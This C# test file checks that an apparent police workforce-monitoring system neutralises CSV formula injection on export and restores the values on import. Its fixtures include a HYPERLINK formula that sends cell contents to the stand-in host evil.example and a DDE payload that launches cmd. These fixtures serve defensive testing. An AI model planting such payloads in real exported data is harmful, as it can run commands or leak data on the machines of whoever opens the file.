using Probity.Workforce.Contracts;
using Probity.Registers.Contracts;
using Probity.AccessMonitoring.Detection;
using Probity.Infrastructure;
using Probity.Interchange.Contracts;
using Probity.Interchange.Pif;
using Probity.Performance.Measures;
using Probity.Performance.Report;

namespace Probity.Tests.Interchange;

/// <summary>
/// CSV injection: a value an insider (or a feed) puts in a name, a description or an identifier must not run as a
/// formula when the exported file is opened in a spreadsheet. Text cells starting = + - @ TAB CR get a leading single
/// quote (OWASP); numbers stay numbers; PIF-1 import gives back exactly what was exported.
/// </summary>
public sealed class CsvNeutralisingTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for details\")";

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("@SUM(1)", "'@SUM(1)")]
    [InlineData("+44 20 7946 0000", "'+44 20 7946 0000")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("\tcmd", "'\tcmd")]
    [InlineData("\rcmd", "'\rcmd")]
    [InlineData("'=1+1", "''=1+1")]    // already quoted by someone: quoted once more, so it reads back as it was
    [InlineData("'-5", "''-5")]
    [InlineData("-", "'-")]
    [InlineData("-5", "-5")]             // numbers stay numbers
    [InlineData("-0.25", "-0.25")]
    [InlineData("+44", "+44")]
    [InlineData("-1.5E-3", "-1.5E-3")]
    [InlineData("O'Brien", "O'Brien")]
    [InlineData("'quoted'", "'quoted'")]
    [InlineData("a=b", "a=b")]
    public void A_text_cell_a_spreadsheet_would_run_is_quoted_and_reads_back_as_it_was(string value, string written)
    {
        Assert.Equal(written, Csv.Neutralise(value));
        Assert.Equal(value, Csv.Restore(written).ToString());
    }

    [Fact]
    public void Report_tables_neutralise_text_and_leave_negative_numbers_alone()
    {
        var oldest = new BreakdownTable("oldest_live", "Oldest live cases", ["Case", "Received", "Age (working days)", "Handling unit", "Change"],
            [
                [new CaseCell("=C1"), new LabelCell("2009-01-05"), new CountCell(512), new UnitCell("u1", Hyperlink), new LabelCell("-5")],
                [new CaseCell("C2"), new LabelCell("2009-02-01"), new CountCell(498), new UnitCell("u2", "@SUM(1)"), new LabelCell("-0.25")],
            ]);

        var csv = PspiCsv.Table(oldest);

        Assert.Equal(
            "Case,Received,Age (working days),Handling unit,Change\r\n" +
            "'=C1,2009-01-05,512,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click for details\"\")\",-5\r\n" +
            "C2,2009-02-01,498,'@SUM(1),-0.25\r\n", csv);
    }

    [Fact]
    public async Task Alerts_csv_neutralises_a_staff_id_taken_from_a_feed()
    {
        // A staff id comes from the audit logs other systems send: anyone able to write to one chooses it.
        var signal = new MisuseSignal("volume_spike", "=cmd|' /C calc'!A0", "day", new DateTimeOffset(2026, 3, 2, 9, 0, 0, TimeSpan.Zero),
            new DateTimeOffset(2026, 3, 2, 17, 0, 0, TimeSpan.Zero), 420, new Dictionary<string, double>(), new Dictionary<string, string>(), []);
        var writer = new StringWriter();

        await DetectMisuse.WriteCsvAsync(writer, [new ScoredAlert("A1", signal, -1.5, "+44 rang about it")], TestContext.Current.CancellationToken);

        var row = writer.ToString().Split("\r\n")[1];
        Assert.Equal("A1,'=cmd|' /C calc'!A0,volume_spike,-1.5,2026-03-02T09:00:00Z,2026-03-02T17:00:00Z,420,'+44 rang about it", row);
    }

    private static PifBundle Hostile()
    {
        var b = new PifBundle();
        b.Units.Add(new Unit { Id = "U1", Name = Hyperlink, Kind = "borough", ResidentPopulation = 255000 });
        b.Units.Add(new Unit { Id = "-U2", Name = "'=already quoted", Kind = "bsu", ParentUnitId = "U1" });
        b.Staff.Add(new StaffMember { Id = "S1", DisplayName = "@SUM(1)", StaffType = "officer", Rank = "+44 20 7946 0000", UnitId = "-U2", JoinedOn = new(2004, 2, 29) });
        b.Staff.Add(new StaffMember { Id = "S2", DisplayName = "\tTab Smith", StaffType = "police_staff", Rank = "-", UnitId = "U1" });
        b.BusinessInterests.Add(new BusinessInterest
        {
            Id = "B1", StaffId = "S1", InterestType = "second_job", Description = "-2+3 taxi, call +44 20 7946 0000", AppliedOn = new(2020, 1, 6),
        });
        return b;
    }

    [Fact]
    public void Pif_export_neutralises_hostile_text_and_import_gives_every_value_back()
    {
        using var first = new BundleFolder();
        using var second = new BundleFolder();
        var original = Hostile();

        PifWriter.Write(original, first.Path);
        var units = File.ReadAllText(Path.Combine(first.Path, "units.csv"));
        var staff = File.ReadAllText(Path.Combine(first.Path, "staff.csv"));
        var read = first.Read();
        PifWriter.Write(read.Bundle, second.Path);

        Assert.Contains("U1,\"'=HYPERLINK(", units, StringComparison.Ordinal);
        Assert.Contains("'-U2,''=already quoted,bsu,U1,", units, StringComparison.Ordinal);
        Assert.Contains("S1,'@SUM(1),officer,'+44 20 7946 0000,'-U2,2004-02-29,", staff, StringComparison.Ordinal);
        Assert.Contains("S2,'\tTab Smith,police_staff,'-,U1,", staff, StringComparison.Ordinal);
        // No cell of either file starts a formula.
        foreach (var line in (units + staff).Split("\r\n"))
            foreach (var cell in line.Split(','))
                Assert.False(cell.TrimStart('"').Length > 0 && "=+-@\t".Contains(cell.TrimStart('"')[0], StringComparison.Ordinal), $"'{cell}' would run as a formula");

        PifAssert.NoErrors(read);
        var b = read.Bundle;
        Assert.Equal(original.Units.Select(u => (u.Id, u.Name, u.ParentUnitId)), b.Units.Select(u => (u.Id, u.Name, u.ParentUnitId)));
        Assert.Equal(original.Staff.Select(s => (s.Id, s.DisplayName, s.Rank, s.UnitId)), b.Staff.Select(s => (s.Id, s.DisplayName, s.Rank, s.UnitId)));
        Assert.Equal(original.BusinessInterests[0].Description, b.BusinessInterests[0].Description);
        foreach (var name in Directory.EnumerateFiles(first.Path).Select(Path.GetFileName))
            Assert.Equal(File.ReadAllBytes(Path.Combine(first.Path, name!)), File.ReadAllBytes(Path.Combine(second.Path, name!)));
    }

    [Fact]
    public void A_file_from_another_system_with_a_plain_leading_quote_keeps_it()
    {
        using var folder = BundleFolder.Minimal().File("units.csv", BundleFolder.UnitsHeader, "U1,'quoted name,borough,,", "U2,O'Brien House,bsu,U1,");

        var read = folder.Read();

        PifAssert.NoErrors(read);
        Assert.Equal(["'quoted name", "O'Brien House"], read.Bundle.Units.Select(u => u.Name));
    }
}
